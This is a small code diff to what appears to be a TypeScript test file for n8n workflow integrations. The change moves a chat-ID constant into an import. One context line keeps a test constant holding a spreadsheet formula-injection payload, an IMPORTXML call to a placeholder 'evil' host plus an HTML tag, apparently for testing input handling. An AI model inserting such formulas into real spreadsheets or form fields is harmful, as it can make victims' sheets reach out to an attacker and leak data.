@@ -1,12 +1,11 @@
 import { eventually } from '../../host/eventually';
 import type { WorkflowDraft } from '../../host/n8nApi';
-import { ChatRoom, KITCHEN, MANAGERS } from './chat';
+import { ChatRoom, KITCHEN, MANAGERS, PODIL } from './chat';
 import { onNewestHost } from './context';
 import { createSlackCredential, importGoogleCredential, useElsewhere } from './elsewhere';
 import { useOwnN8n } from './instance';
 import { useTemplates, withParameters } from './templates';
 
-const PODIL = -1001000000003;
 const UNKNOWN_CHAT = -1001000000099;
 const FORMULA = '=IMPORTXML("http://evil.example.test") <b>';
 
